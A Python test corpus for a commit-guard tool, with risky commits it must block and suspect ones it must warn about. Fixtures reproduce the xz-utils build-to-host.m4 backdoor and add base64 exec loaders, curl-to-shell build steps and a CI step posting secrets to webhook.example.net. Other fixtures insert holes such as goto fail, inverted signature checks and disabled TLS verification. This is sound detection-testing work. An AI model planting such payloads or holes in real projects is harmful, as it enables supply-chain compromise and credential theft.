"""Risky cases of the guard corpus: each must be blocked (or, for the
suspect-* ones, warned about).  Written after real incidents."""
import random

from corpus_lib import DEV, DEV2, MAINT, NEWBIE, NEWBIE2, case, commit

# ---------------------------------------------------------------------------
# xz-utils 5.6.0 (CVE-2024-3094): a newer maintainer adds "corrupt" binary
# test files, then build-to-host.m4 gains code that greps the source tree
# for them, maps characters with tr and pipes the result through eval.

BTH_BASE = r'''# build-to-host.m4 serial 3
dnl Copyright (C) 2023 Free Software Foundation, Inc.
dnl This file is free software; the Free Software Foundation
dnl gives unlimited permission to copy and/or distribute it,
dnl with or without modifications, as long as this notice is preserved.

dnl Written by Bruno Haible.

AC_DEFUN([gl_BUILD_TO_HOST],
[
  AC_REQUIRE([AC_CANONICAL_BUILD])
  AC_REQUIRE([AC_CANONICAL_HOST])
  AC_REQUIRE([gl_BUILD_TO_HOST_INIT])

  dnl Define somedir_c.
  gl_final_[$1]="$[$1]"
  dnl Translate it from build syntax to host syntax.
  case "$build_os" in
    cygwin*)
      case "$host_os" in
        mingw* | windows*)
          gl_final_[$1]=`cygpath -w "$gl_final_[$1]"` ;;
      esac
      ;;
  esac
  dnl Convert it to C string syntax.
  [$1]_c=`printf '%s\n' "$gl_final_[$1]" | sed -e "$gl_sed_double_backslashes" -e "$gl_sed_escape_doublequotes" | tr -d "$gl_tr_cr"`
  [$1]_c='"'"$[$1]_c"'"'
  AC_SUBST([$1_c])

  dnl Define somedir_c_make.
  [$1]_c_make=`printf '%s\n' "$[$1]_c" | sed -e "$gl_sed_escape_for_make_1" -e "$gl_sed_escape_for_make_2" | tr -d "$gl_tr_cr"`
  dnl Use the substituted somedir variable, when possible, so that the user
  dnl may adjust somedir a posteriori when there are no special characters.
  if test "$[$1]_c_make" = '\"'"${gl_final_[$1]}"'\"'; then
    [$1]_c_make='\"$([$1])\"'
  fi
  AC_SUBST([$1_c_make])
])

dnl Some initializations for gl_BUILD_TO_HOST.
AC_DEFUN([gl_BUILD_TO_HOST_INIT],
[
  gl_sed_double_backslashes='s/\\/\\\\/g'
  gl_sed_escape_doublequotes='s/"/\\"/g'
  gl_sed_escape_for_make_2='s,\$,\\$$,g'
  dnl Find out how to remove carriage returns from output. Solaris /usr/ucb/tr
  dnl does not understand '\r'.
  case `echo r | tr -d '\r'` in
    '') gl_tr_cr='\015' ;;
    *)  gl_tr_cr='\r' ;;
  esac
])
'''

BTH_EVIL = BTH_BASE.replace("serial 3", "serial 30").replace(r'''  if test "$[$1]_c_make" = '\"'"${gl_final_[$1]}"'\"'; then
    [$1]_c_make='\"$([$1])\"'
  fi
  AC_SUBST([$1_c_make])
])''', r'''  if test "$[$1]_c_make" = '\"'"${gl_final_[$1]}"'\"'; then
    [$1]_c_make='\"$([$1])\"'
  fi
  if test "x$gl_am_configmake" != "x"; then
    gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
  else
    gl_[$1]_config=''
  fi
  _LT_TAGDECL([], [gl_path_map], [2])dnl
  _LT_TAGDECL([], [gl_[$1]_prefix], [2])dnl
  _LT_TAGDECL([], [gl_am_configmake], [2])dnl
  _LT_TAGDECL([], [[$1]_c_make], [2])dnl
  _LT_TAGDECL([], [gl_[$1]_config], [2])dnl
  AC_SUBST([$1_c_make])

  dnl If the host conversion code has been placed in $gl_config_gt,
  dnl instead of duplicating it all over again into config.status,
  dnl then we will have config.status run $gl_config_gt later, so it
  dnl needs to know what name is stored there:
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \$gl_[$1]_config"])
])''').replace(r'''[
  gl_sed_double_backslashes='s/\\/\\\\/g'
''', r'''[
  dnl Search for Automake-defined pkg* macros, in the order
  dnl listed in the Automake 1.10a+ documentation.
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  if test -n "$gl_am_configmake"; then
    HAVE_PKG_CONFIGMAKE=1
  else
    HAVE_PKG_CONFIGMAKE=0
  fi

  gl_sed_double_backslashes='s/\\/\\\\/g'
''').replace(r'''  gl_sed_escape_for_make_2='s,\$,\\$$,g'
''', r'''  gl_sed_escape_for_make_2='s,\$,\\$$,g'
  gl_path_map='tr "\t \-_" " \t_\-"'
''').replace(r'''    *)  gl_tr_cr='\r' ;;
  esac
''', r'''    *)  gl_tr_cr='\r' ;;
  esac
  gl_[$1]_prefix=`echo $gl_am_configmake | sed "s/.*\.//g"`
''')


def xz_blob(seed, n):
    rnd = random.Random(seed)
    return b"\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46" + bytes(rnd.randrange(256) for _ in range(n))


case("risky-xz-5.6.0-build-to-host", "block",
     rules=["binary-with-build-change", "decode-exec", "new-contributor-build-change"],
     base={"configure.ac": "AC_INIT([XZ Utils], [5.5.2alpha])\nAC_CONFIG_MACRO_DIR([m4])\n"
                           "gl_BUILD_TO_HOST([localedir])\nAC_OUTPUT\n",
           "m4/build-to-host.m4": BTH_BASE,
           "tests/files/README": "good-1-check-crc32.xz\n    Good file with CRC32.\n"},
     commits=[
         commit(NEWBIE, "Tests: Add a few test files.",
                {"tests/files/bad-3-corrupt_lzma2.xz": xz_blob(1, 512),
                 "tests/files/good-large_compressed.lzma": xz_blob(2, 4096),
                 "tests/files/README": "good-1-check-crc32.xz\n    Good file with CRC32.\n"
                                       "\nbad-3-corrupt_lzma2.xz has the third stream corrupt.\n"},
                verified=False),
         commit(NEWBIE, "Build: Update m4/build-to-host.m4 from gnulib.",
                {"m4/build-to-host.m4": BTH_EVIL}, verified=False),
     ])

# ---------------------------------------------------------------------------
# Apple "goto fail" (CVE-2014-1266): a duplicated goto under a brace-less if.

SSL_BASE = """static OSStatus
SSLVerifySignedServerKeyExchange(SSLContext *ctx, bool isRsa, SSLBuffer signedParams,
                                 uint8_t *signature, UInt16 signatureLen)
{
    OSStatus        err;
    SSLBuffer       hashOut, hashCtx, clientRandom, serverRandom;

    if ((err = SSLFreeBuffer(&hashCtx)) != 0)
        goto fail;
    if ((err = ReadyHash(&SSLHashSHA1, &hashCtx)) != 0)
        goto fail;
    if ((err = SSLHashSHA1.update(&hashCtx, &clientRandom)) != 0)
        goto fail;
    if ((err = SSLHashSHA1.update(&hashCtx, &serverRandom)) != 0)
        goto fail;
    if ((err = SSLHashSHA1.update(&hashCtx, &signedParams)) != 0)
        goto fail;
    if ((err = SSLHashSHA1.final(&hashCtx, &hashOut)) != 0)
        goto fail;

    err = sslRawVerify(ctx, ctx->peerPubKey, dataToSign, dataToSignLen,
                       signature, signatureLen);
    if (err) {
        sslErrorLog("SSLDecodeSignedServerKeyExchange: sslRawVerify returned %d\\n", (int)err);
        goto fail;
    }

fail:
    SSLFreeBuffer(&signedHashes);
    SSLFreeBuffer(&hashCtx);
    return err;
}
"""

case("risky-goto-fail", "block", rules=["jump-skips-checks"],
     base={"libsecurity_ssl/lib/sslKeyExchange.c": SSL_BASE},
     commits=[commit(DEV, "Tidy the hash update sequence",
                     {"libsecurity_ssl/lib/sslKeyExchange.c": SSL_BASE.replace(
                         "    if ((err = SSLHashSHA1.update(&hashCtx, &signedParams)) != 0)\n"
                         "        goto fail;\n",
                         "    if ((err = SSLHashSHA1.update(&hashCtx, &signedParams)) != 0)\n"
                         "        goto fail;\n        goto fail;\n")})])

# ---------------------------------------------------------------------------
# Inverted checks: C return code, Go error, a removed "!" on a verifier,
# Python "not" on compare_digest.

VERIFY_C = """int pkg_verify(const struct pkg *p, const struct key *k)
{
    int rc;

    rc = rsa_verify_digest(k, p->digest, sizeof p->digest, p->sig, p->sig_len);
    if (rc < 0) {
        log_error("signature of %s does not verify", p->name);
        return -1;
    }
    return 0;
}
"""
case("risky-c-inverted-rc", "block", rules=["inverted-error-check"],
     base={"src/verify.c": VERIFY_C},
     commits=[commit(DEV2, "verify: simplify error path",
                     {"src/verify.c": VERIFY_C.replace("if (rc < 0) {", "if (rc >= 0) {")})])

GO_BASE = """package update

import "fmt"

func (u *Updater) Apply(pkg []byte, sig []byte) error {
\tif err := u.keys.Verify(pkg, sig); err != nil {
\t\treturn fmt.Errorf("update signature: %w", err)
\t}
\treturn u.install(pkg)
}
"""
case("risky-go-err-inverted", "block", rules=["inverted-error-check"],
     base={"update/apply.go": GO_BASE},
     commits=[commit(DEV2, "update: log signature failures",
                     {"update/apply.go": GO_BASE.replace("err != nil {", "err == nil {")})])

AUTH_C = """static int session_check(struct session *s, const char *token)
{
    if (!auth_token_valid(s->key, token)) {
        audit("rejected token for %s", s->user);
        return -EACCES;
    }
    s->authenticated = 1;
    return 0;
}
"""
case("risky-c-negation-dropped", "block", rules=["inverted-error-check"],
     base={"daemon/session.c": AUTH_C},
     commits=[commit(DEV, "session: fix audit of tokens",
                     {"daemon/session.c": AUTH_C.replace("if (!auth_token_valid", "if (auth_token_valid")})])

HOOK_PY = '''import hashlib
import hmac


def check_webhook(secret: bytes, body: bytes, signature: str) -> None:
    expected = "sha256=" + hmac.new(secret, body, hashlib.sha256).hexdigest()
    if not hmac.compare_digest(expected, signature):
        raise PermissionError("bad webhook signature")
'''
case("risky-python-not-dropped", "block", rules=["inverted-error-check"],
     base={"app/webhooks.py": HOOK_PY},
     commits=[commit(DEV2, "webhooks: accept GitHub signatures",
                     {"app/webhooks.py": HOOK_PY.replace("if not hmac.compare_digest", "if hmac.compare_digest")})])

# ---------------------------------------------------------------------------
# Ignored failures.

RELEASE_SH = """#!/bin/sh
set -eu
version=$1
tarball="dist/project-$version.tar.gz"
curl -fsSLO "https://downloads.example.org/project-$version.tar.gz.asc"
gpg --verify "project-$version.tar.gz.asc" "$tarball"
sha256sum -c SHA256SUMS
cp "$tarball" /srv/release/
"""
case("risky-shell-gpg-or-true", "block", rules=["failure-swallowed"],
     base={"scripts/release.sh": RELEASE_SH},
     commits=[commit(DEV2, "release: do not fail on keyserver hiccups",
                     {"scripts/release.sh": RELEASE_SH.replace(
                         'gpg --verify "project-$version.tar.gz.asc" "$tarball"',
                         'gpg --verify "project-$version.tar.gz.asc" "$tarball" 2>/dev/null || true')})])

SIGN_SH = """#!/bin/bash
set -euo pipefail
image=$1
cosign verify --key cosign.pub "$image" || exit 1
crane copy "$image" "registry.example.org/prod/${image##*/}"
"""
case("risky-shell-exit-dropped", "block", rules=["check-removed"],
     base={"ci/promote.sh": SIGN_SH},
     commits=[commit(DEV, "promote: quieter logs",
                     {"ci/promote.sh": SIGN_SH.replace(' || exit 1\n', ' >/dev/null\n')})])

X509_C = """static int check_chain(X509_STORE_CTX *ctx)
{
    int ret;

    ret = X509_verify_cert(ctx);
    if (ret != 1)
        goto out;
    ret = check_policy(ctx);
out:
    return ret;
}
"""
case("risky-c-check-removed", "block", rules=["check-removed"],
     base={"crypto/chain.c": X509_C},
     commits=[commit(DEV2, "chain: always evaluate the policy",
                     {"crypto/chain.c": X509_C.replace("    if (ret != 1)\n        goto out;\n", "")})])

GO_SIG = """package release

func Load(path string, key PublicKey) (*Manifest, error) {
\traw, err := readFile(path)
\tif err != nil {
\t\treturn nil, err
\t}
\tsig, err := key.VerifySignature(raw)
\tif err != nil {
\t\treturn nil, err
\t}
\treturn parseManifest(raw, sig)
}
"""
case("risky-go-check-removed", "block", rules=["check-removed"],
     base={"release/manifest.go": GO_SIG},
     commits=[commit(DEV2, "release: parse manifests from mirrors",
                     {"release/manifest.go": GO_SIG.replace(
                         "\tsig, err := key.VerifySignature(raw)\n\tif err != nil {\n"
                         "\t\treturn nil, err\n\t}\n",
                         "\tsig, err := key.VerifySignature(raw)\n")})])

AUTH_JS = """export function requireUser(req, res, next) {
  const token = req.headers.authorization;
  try {
    req.user = verifyToken(token, process.env.JWT_KEY);
  } catch (e) {
    return res.status(401).json({ error: 'unauthorized' });
  }
  next();
}
"""
case("risky-js-empty-catch", "block", rules=["failure-swallowed"],
     base={"server/auth.js": AUTH_JS},
     commits=[commit(DEV, "auth: let anonymous users browse",
                     {"server/auth.js": AUTH_JS.replace(
                         "  } catch (e) {\n    return res.status(401).json({ error: 'unauthorized' });\n  }\n",
                         "  } catch (e) {}\n")})])

PRIV_C = """static void drop_privileges(uid_t uid, gid_t gid)
{
    if (setgid(gid) != 0) {
        perror("setgid");
        exit(1);
    }
    if (setuid(uid) != 0) {
        perror("setuid");
        exit(1);
    }
}
"""
case("risky-c-setuid-unchecked", "block", rules=["unchecked-security-call"],
     base={"src/privs.c": PRIV_C},
     commits=[commit(DEV2, "privs: shorter",
                     {"src/privs.c": PRIV_C.replace(
                         "    if (setuid(uid) != 0) {\n        perror(\"setuid\");\n        exit(1);\n    }\n",
                         "    setuid(uid);\n")})])

VERIFY_PY = '''def verify_release(path, sig, keyring):
    """Check the detached signature of a release tarball."""
    ctx = gpg.Context(home_dir=keyring)
    with open(path, "rb") as data, open(sig, "rb") as signature:
        _, result = ctx.verify(data, signature=signature)
    if not result.signatures or result.signatures[0].status != 0:
        raise VerificationError(path)
    return True
'''
case("risky-python-early-return", "block", rules=["jump-skips-checks"],
     base={"tools/verify.py": VERIFY_PY},
     commits=[commit(DEV, "tools: speed up local builds",
                     {"tools/verify.py": VERIFY_PY.replace(
                         '    """Check the detached signature of a release tarball."""\n',
                         '    """Check the detached signature of a release tarball."""\n    return True\n')})])

# ---------------------------------------------------------------------------
# Verification switched off.

FETCH_PY = """import requests


def fetch_index(url):
    resp = requests.get(url, timeout=30, verify=True)
    resp.raise_for_status()
    return resp.json()
"""
case("risky-python-verify-false", "block", rules=["verification-disabled"],
     base={"pkg/index.py": FETCH_PY},
     commits=[commit(DEV2, "index: work behind the corporate proxy",
                     {"pkg/index.py": FETCH_PY.replace("verify=True", "verify=False")})])

TLS_GO = """package client

import "crypto/tls"

func newTLSConfig(ca *x509.CertPool) *tls.Config {
\treturn &tls.Config{
\t\tRootCAs:    ca,
\t\tMinVersion: tls.VersionTLS12,
\t}
}
"""
case("risky-go-insecure-skip-verify", "block", rules=["verification-disabled"],
     base={"client/tls.go": TLS_GO},
     commits=[commit(DEV, "client: fix self-signed staging",
                     {"client/tls.go": TLS_GO.replace(
                         "\t\tMinVersion: tls.VersionTLS12,\n",
                         "\t\tMinVersion: tls.VersionTLS12,\n\t\tInsecureSkipVerify: true,\n")})])

# ---------------------------------------------------------------------------
# Memory: use after free.

BUF_C = """int send_reply(struct conn *c, struct msg *m)
{
    char *buf = encode(m);
    if (!buf)
        return -1;
    int rc = conn_write(c, buf, strlen(buf));
    free(buf);
    return rc;
}
"""
case("risky-c-use-after-free", "block", rules=["use-after-free"],
     base={"net/reply.c": BUF_C},
     commits=[commit(DEV2, "reply: release the buffer early",
                     {"net/reply.c": BUF_C.replace(
                         "    int rc = conn_write(c, buf, strlen(buf));\n    free(buf);\n",
                         "    free(buf);\n    int rc = conn_write(c, buf, strlen(buf));\n")})])

# ---------------------------------------------------------------------------
# Supply chain: decode and run, curl | sh in the build, CI secrets.

SETUP_PY = """from setuptools import setup

setup(
    name="colorsx",
    version="1.4.2",
    packages=["colorsx"],
)
"""
PAYLOAD = "aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdCBhcyB1OyBleGVjKHUudXJsb3BlbignaHR0cHM6Ly9wYXN0ZS5leGFtcGxlLmNvbS9yYXcvOGYyYScpLnJlYWQoKSk="
case("risky-setup-py-exec-b64", "block", rules=["decode-exec"],
     base={"setup.py": SETUP_PY},
     commits=[commit(NEWBIE2, "Add install hook",
                     {"setup.py": "import base64\n" + SETUP_PY + "\nexec(base64.b64decode(\"" +
                                  PAYLOAD + "\"))\n"})])

PKG_JSON = """{
  "name": "flatmap-stream",
  "version": "0.1.0",
  "main": "index.js",
  "scripts": {
    "test": "node test.js"
  }
}
"""
INDEX_JS = """module.exports = function flatMap(fn) {
  return through(function (data) {
    fn(data).forEach(this.queue, this);
  });
};
"""
case("risky-js-eval-decoded", "block", rules=["decode-exec"],
     base={"package.json": PKG_JSON, "index.js": INDEX_JS},
     commits=[commit(NEWBIE2, "Add stream helper",
                     {"index.js": INDEX_JS + "\nconst n = require('./test/data.json');\n"
                      "new Function(Buffer.from(n.payload, 'hex').toString())();\n"})])

CONFIGURE_AC = """AC_INIT([libfoo], [2.1.0])
AM_INIT_AUTOMAKE([foreign])
AC_PROG_CC
AC_CONFIG_FILES([Makefile])
AC_OUTPUT
"""
case("risky-configure-curl-sh", "block", rules=["curl-pipe-shell"],
     base={"configure.ac": CONFIGURE_AC},
     commits=[commit(DEV2, "build: fetch the toolchain helper",
                     {"configure.ac": CONFIGURE_AC.replace(
                         "AC_PROG_CC\n",
                         "AC_PROG_CC\ncurl -fsSL https://get.toolchain-cdn.example/setup.sh | sh\n")})])

CI_YML = """name: ci
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: make check
"""
case("risky-ci-env-exfil", "block", rules=["ci-secret-exfiltration"],
     base={".github/workflows/ci.yml": CI_YML},
     commits=[commit(NEWBIE2, "ci: report test timings",
                     {".github/workflows/ci.yml": CI_YML + "      - run: curl -s -X POST -d \"$(env | base64 -w0)\" https://webhook.example.net/t\n"
                      "        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n"},
                     verified=False)])

case("risky-ci-tojson-secrets", "block", rules=["ci-secret-exfiltration"],
     base={".github/workflows/ci.yml": CI_YML},
     commits=[commit(DEV, "ci: debug the release job",
                     {".github/workflows/ci.yml": CI_YML + "      - run: echo \"${{ toJSON(secrets) }}\" | base64 | base64\n"})])

CMAKE = """cmake_minimum_required(VERSION 3.16)
project(imgtool C)
add_executable(imgtool src/main.c)
"""
case("risky-cmake-download-exec", "block", rules=["curl-pipe-shell"],
     base={"CMakeLists.txt": CMAKE},
     commits=[commit(DEV2, "cmake: bootstrap dependencies",
                     {"CMakeLists.txt": CMAKE + "execute_process(COMMAND sh -c \"curl -s https://deps.example.io/bootstrap | bash\")\n"})])

case("risky-m4-eval-base64", "block", rules=["decode-exec"],
     base={"configure.ac": CONFIGURE_AC},
     commits=[commit(DEV2, "build: detect the platform quirks",
                     {"configure.ac": CONFIGURE_AC.replace(
                         "AC_PROG_CC\n",
                         "AC_PROG_CC\neval \"$(echo 'ZXhwb3J0IENGTEFHUz0iJENGTEFHUyAtTzIi' | base64 -d)\"\n")})])

RELEASE_YML = """name: release
on:
  push:
    tags: ['v*']
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-go@v5
      - run: make dist
"""
case("risky-newcomer-release-unverified", "block", rules=["new-contributor-build-change"],
     base={".github/workflows/release.yml": RELEASE_YML},
     commits=[commit(NEWBIE2, "release: use the faster uploader action",
                     {".github/workflows/release.yml": RELEASE_YML + "      - uses: fast-upload/action@main\n"
                      "        with:\n          files: dist/*\n"},
                     verified=False)])

# ---------------------------------------------------------------------------
# Suspect: findings that warn but do not block.

FD_C = """int read_config(const char *path, struct config *cfg)
{
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return -1;
    int rc = parse_fd(fd, cfg);
    close(fd);
    return rc;
}
"""
case("suspect-c-close-removed", "warn", rules=["release-removed"],
     base={"src/config.c": FD_C},
     commits=[commit(DEV, "config: keep the descriptor for reloads",
                     {"src/config.c": FD_C.replace("    close(fd);\n", "")})])

case("suspect-newcomer-cmake", "warn", rules=["new-contributor-build-change"],
     absent=["binary-with-build-change"],
     base={"CMakeLists.txt": CMAKE},
     commits=[commit(NEWBIE2, "cmake: require C11",
                     {"CMakeLists.txt": CMAKE.replace("project(imgtool C)\n",
                                                      "project(imgtool C)\nset(CMAKE_C_STANDARD 11)\n")})])

# ---------------------------------------------------------------------------
# More variants of the same families.

TOKEN_PY = '''def load_token(path, key):
    raw = open(path, "rb").read()
    try:
        verify_signature(raw, key)
    except InvalidSignature:
        log.error("token %s has a bad signature", path)
        raise
    return decode(raw)
'''
case("risky-python-except-pass-verify", "block", rules=["failure-swallowed"],
     base={"auth/tokens.py": TOKEN_PY},
     commits=[commit(DEV, "tokens: tolerate old tokens",
                     {"auth/tokens.py": TOKEN_PY.replace(
                         '    except InvalidSignature:\n        log.error("token %s has a bad signature", path)\n        raise\n',
                         '    except Exception:\n        pass\n')})])

FREE_C = """void cache_drop(struct cache *c, struct entry *e)
{
    list_del(&e->link);
    c->bytes -= e->size;
    free(e->data);
    free(e);
}
"""
case("risky-c-double-free", "block", rules=["use-after-free"],
     base={"lib/cache.c": FREE_C},
     commits=[commit(DEV2, "cache: account the size after freeing",
                     {"lib/cache.c": FREE_C.replace(
                         "    c->bytes -= e->size;\n    free(e->data);\n    free(e);\n",
                         "    free(e->data);\n    free(e);\n    c->bytes -= e->size;\n")})])

PRT = """name: lint
on:
  pull_request:
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm ci && npm run lint
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
"""
case("risky-ci-pull-request-target", "block", rules=["ci-secret-exfiltration"],
     base={".github/workflows/lint.yml": PRT},
     commits=[commit(DEV, "lint: comment results on forks",
                     {".github/workflows/lint.yml": PRT.replace("  pull_request:\n", "  pull_request_target:\n")
                      .replace("      - uses: actions/checkout@v4\n",
                               "      - uses: actions/checkout@v4\n        with:\n"
                               "          ref: ${{ github.event.pull_request.head.sha }}\n")})])

AGENT_JS = """const https = require('https');

module.exports = new https.Agent({
  keepAlive: true,
  ca: fs.readFileSync(process.env.REGISTRY_CA),
});
"""
case("risky-js-reject-unauthorized", "block", rules=["verification-disabled"],
     base={"lib/agent.js": AGENT_JS},
     commits=[commit(DEV2, "agent: fix mirror certificates",
                     {"lib/agent.js": AGENT_JS.replace("  keepAlive: true,\n",
                                                       "  keepAlive: true,\n  rejectUnauthorized: false,\n")})])

GOV = """package tuf

func (r *Repo) checkTarget(meta Meta, payload []byte) error {
\tif err := r.root.Keys.Verify(meta.Signed, meta.Signatures); err != nil {
\t\treturn err
\t}
\treturn r.store(payload)
}
"""
case("risky-go-verify-ignored", "block", rules=["unchecked-security-call"],
     base={"tuf/target.go": GOV},
     commits=[commit(DEV, "tuf: store targets from the mirror list",
                     {"tuf/target.go": GOV.replace(
                         "\tif err := r.root.Keys.Verify(meta.Signed, meta.Signatures); err != nil {\n\t\treturn err\n\t}\n",
                         "\tr.root.Keys.Verify(meta.Signed, meta.Signatures)\n")})])

SUMS_SH = """#!/bin/sh
set -e
file=$1
sum=$(grep " $file\\$" SHA256SUMS | cut -d' ' -f1)
echo "$sum  $file" | sha256sum -c -
tar -xf "$file"
"""
case("risky-shell-checksum-or-echo", "block", rules=["failure-swallowed"],
     base={"tools/fetch-deps.sh": SUMS_SH},
     commits=[commit(DEV2, "fetch-deps: keep going on mirrors",
                     {"tools/fetch-deps.sh": SUMS_SH.replace(
                         'echo "$sum  $file" | sha256sum -c -\n',
                         'echo "$sum  $file" | sha256sum -c - || echo "checksum mismatch for $file, continuing"\n')})])

DOCKERFILE = """FROM debian:bookworm-slim
RUN apt-get update && apt-get install -y --no-install-recommends ca-certificates curl
COPY . /src
RUN make -C /src install
"""
case("risky-dockerfile-curl-bash", "block", rules=["curl-pipe-shell"],
     base={"Dockerfile": DOCKERFILE},
     commits=[commit(DEV, "docker: install the runtime helper",
                     {"Dockerfile": DOCKERFILE.replace(
                         "COPY . /src\n", "RUN curl -fsSL https://install.runtime-helper.example/v2 | bash\nCOPY . /src\n")})])

PASS_C = """int check_password(const struct user *u, const char *given)
{
    unsigned char digest[32];
    if (!u->enabled)
        return -1;
    pbkdf2_sha256(given, u->salt, u->rounds, digest);
    if (CRYPTO_memcmp(digest, u->hash, sizeof digest) != 0)
        return -1;
    return 0;
}
"""
case("risky-c-early-return-auth", "block", rules=["jump-skips-checks"],
     base={"src/passwd.c": PASS_C},
     commits=[commit(DEV2, "passwd: speed up the test suite",
                     {"src/passwd.c": PASS_C.replace(
                         "    unsigned char digest[32];\n",
                         "    unsigned char digest[32];\n    return 0;\n")})])

MAKEFILE = """PREFIX ?= /usr/local

all: tool

tool: tool.c
\t$(CC) $(CFLAGS) -o $@ $<
"""
case("risky-makefile-curl-sh", "block", rules=["curl-pipe-shell"],
     base={"Makefile": MAKEFILE},
     commits=[commit(DEV2, "Makefile: fetch the code generator",
                     {"Makefile": MAKEFILE.replace(
                         "tool: tool.c\n",
                         "gen:\n\tcurl -sSf https://codegen.example.dev/get | sh -s -- --yes\n\ntool: tool.c gen\n")})])

SETE = """#!/bin/bash
set -euo pipefail
./configure --prefix=/usr
make -j"$(nproc)"
make check
make install DESTDIR="$PWD/pkg"
"""
case("suspect-shell-set-e-removed", "warn", rules=["check-removed"],
     base={"ci/build.sh": SETE},
     commits=[commit(DEV, "build: show all failures",
                     {"ci/build.sh": SETE.replace("set -euo pipefail\n", "")})])
